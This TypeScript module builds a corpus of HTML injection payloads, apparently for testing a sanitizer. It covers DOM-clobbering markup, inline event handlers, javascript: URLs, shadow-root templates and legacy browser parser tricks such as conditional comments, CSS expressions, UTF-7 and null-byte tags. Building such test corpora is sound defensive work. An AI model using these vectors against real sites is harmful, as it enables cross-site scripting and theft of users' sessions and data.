/** Names that stand in the way of what a document or an element can do, and markup of browsers long gone. */
import { type Payload, payloads } from './payload.ts';

const ofForms = [
  'attributes',
  'parentNode',
  'nodeName',
  'nodeType',
  'children',
  'removeChild',
  'setAttribute',
]
  .concat([
    'removeAttributeNode',
    'namespaceURI',
    'hasChildNodes',
    'firstElementChild',
    'insertBefore',
    'submit',
  ])
  .concat([
    'shadowRoot',
    'isConnected',
    'localName',
    'id',
    'style',
    'dataset',
    'cloneNode',
    'append',
    'remove',
  ])
  .concat([
    'querySelectorAll',
    'getAttribute',
    'getAttributeNames',
    'closest',
    'matches',
    'baseURI',
    'content',
  ]);
const ofDocuments = [
  'createElement',
  'createTreeWalker',
  'createNodeIterator',
  'getElementById',
  'cookie',
  'body',
]
  .concat(['adoptNode', 'importNode', 'activeElement', 'documentElement', 'implementation', 'currentScript'])
  .concat([
    'defaultView',
    'scripts',
    'styleSheets',
    'fonts',
    'readyState',
    'URL',
    'domain',
    'location',
    'all',
  ]);

const forms = Object.fromEntries(
  ofForms.map((name) => [
    `form-${name}`,
    `<form onmouseover=%><input name="${name}"><button name="${name}">Ring</button></form>`,
  ]),
);
const documents = Object.fromEntries(
  ofDocuments.map((name) => [
    `document-${name}`,
    `<img name="${name}" id="${name}" src="/picture.png" width="1" height="1" alt="">`,
  ]),
);

const others = payloads('name', {
  'form-far':
    '<form id="far9"></form><input form="far9" name="parentNode"><output form="far9" name="children"></output>',
  'form-in-form': '<form><div></form><form><input name="nextSibling"></div></form>',
  'link-chain': '<a id="galley"></a><a id="galley" name="story" href="javascript:%"></a>',
  'frame-window': '<iframe name="chrome" srcdoc="<a id=&quot;runtime&quot;></a>"></iframe>',
  'object-name': '<object name="browser"><a id="runtime"></a></object>',
  'is-attribute': '<p is="bell-ringer" onclick=%>The ringer wore gloves on the day.</p>',
  'slot-attribute': '<p slot="story" part="bell" exportparts="bell">The second ringer wore none at all.</p>',
  'popover-target':
    '<button popovertarget="p9" popovertargetaction="show">More</button><div popover id="p9" onbeforetoggle=%>Rope</div>',
  'command-for': '<button commandfor="p9" command="show-popover" onclick=%>Ring</button>',
  'interest-for': '<button interestfor="p9">Look</button>',
  'shadow-closed': '<div><template shadowrootmode="closed"><img src=x onerror=%></template></div>',
  'shadow-open':
    '<div><template shadowrootmode="open"><a href="javascript:%">Below</a><slot></slot></template></div>',
  'shadow-clonable':
    '<div><template shadowrootmode="open" shadowrootclonable shadowrootserializable><img src=x onerror=%></template></div>',
  nonce: '<p nonce="abc" integrity="x" crossorigin="use-credentials">A line with keys of a page.</p>',
  'edit-context': '<p contenteditable onbeforeinput=% oninput=%>A line that can be written in.</p>',
  'access-key': '<a href="/tides" accesskey="x" onclick=%>Tides</a>',
  inert: '<div inert><p>A line that cannot be pressed by anybody.</p></div>',
  drag: '<p draggable="true" ondragstart=%>A line that can be carried off.</p>',
});

const old = payloads('old', {
  'conditional-comment': '<!--[if gte IE 4]><script>%</script><![endif]-->',
  'conditional-open': '<!--[if]><script>%</script -->',
  'downlevel-revealed': '<![if !IE]><img src=x onerror=%><![endif]>',
  'empty-comment': '<!--><img src=x onerror=%>-->',
  'dashed-comment': '<!---><img src=x onerror=%>-->',
  'bang-comment': '<!-- a --!><img src=x onerror=%> -->',
  'comment-element': '<comment><img src="</comment><img src=x onerror=%>"></comment>',
  instruction: '<?xml-stylesheet type="text/xsl" href="javascript:%"?>',
  'instruction-end': '<? a="><script>%</script>">',
  'declaration-end': '<! a="><script>%</script>">',
  'end-tag-attribute': '</ a="><script>%</script>">',
  'server-tags': '<% a><b c="%><script>1</script>">',
  'doctype-entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "@">]><i>&b;</i>',
  'doctype-attlist': '<!DOCTYPE a [<!ATTLIST img onerror CDATA "%">]><img src=x>',
  'prefix-style':
    '<html:style xmlns:html="http://www.w3.org/1999/xhtml"></html:style><a xlink:href="javascript:%">b</a>',
  'prefix-template': '<x:template xmlns:x="http://quay.example/wml" x:ontimer="javascript:%"></x:template>',
  'namespace-set': '<t:set attributeName="innerHTML" to="<img src=x onerror=%>"></t:set>',
  'time-set':
    '<set xmlns="urn:schemas-microsoft-com:time" attributename="innerhtml" to="<img src=x onerror=%>"></set>',
  'vector-frame': '<vmlframe style="behavior:url(#default#vml)" src="@"></vmlframe>',
  'vector-line': '<line href="javascript:%" from="0" to="9"></line>',
  expression: '<p style="width:expression(%)">A line as wide as an expression.</p>',
  backticks: '<img alt="``onerror=%" src="/picture.png">',
  'backtick-handler': '<p style=`behavior:url(#x)` onbegin=`%`>A line between backticks.</p>',
  'slash-attributes': '<img/src="x"/onerror=%>',
  'quote-attributes': "<img src=x id/=' onerror=%//'>",
  'equals-attribute': '<img src =x ="" onerror =%>',
  'vertical-tab': '<img\u000bsrc=x\u000bonerror=%>',
  'form-feed': '<img\u000csrc=x\u000conerror=%>',
  'null-in-tag': '<im\u0000g src=x onerror=%>',
  'null-in-handler': '<img src=x on\u0000error=%>',
  'double-open': '<<img src=x onerror=%>>',
  'broken-script': '<b <script>%//</script>0</script></b>',
  'script-for': '<script for="document" event="onreadystatechange">%</script>',
  'utf-seven': '<meta charset="utf-7">+ADw-script+AD4-1+ADw-/script+AD4-',
  'wide-brackets': '＜script＞%＜/script＞ &#xff1c;img src=x onerror=%&#xff1e;',
  'low-charset': '\u00bcscript\u00be%\u00bc/script\u00be',
  pattern: '<input pattern="^((a+.)a)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaa!">',
  'dir-name': '<form><input name="a" dirname="password"></form>',
  'event-source': '<event-source src="@" onload=%>',
  repeat: '<b repeat="template" repeat-start="999999">0</b>',
});

const handlers = [
  'onabort',
  'onauxclick',
  'onbeforecopy',
  'onbeforematch',
  'oncanplay',
  'oncontextmenu',
  'oncopy',
]
  .concat([
    'oncuechange',
    'ondblclick',
    'onfocusin',
    'onformdata',
    'onfullscreenchange',
    'ongotpointercapture',
  ])
  .concat(['oninvalid', 'onkeydown', 'onpaste', 'onpointerrawupdate', 'onscrollsnapchange', 'onselectstart'])
  .concat([
    'onslotchange',
    'ontransitionend',
    'onunload',
    'onwebkitanimationend',
    'onwheel',
    'onMouseOver',
    'ONCLICK',
  ]);
const lines = Object.fromEntries(
  handlers.map((name, at) => [
    name,
    `<p ${name}=% tabindex="1">Line ${at} tells of the ${name.length} bells of the coast.</p>`,
  ]),
);

export const names: readonly Payload[] = [
  ...payloads('clobber', { ...forms, ...documents }),
  ...others,
  ...old,
  ...payloads('handler', lines),
];
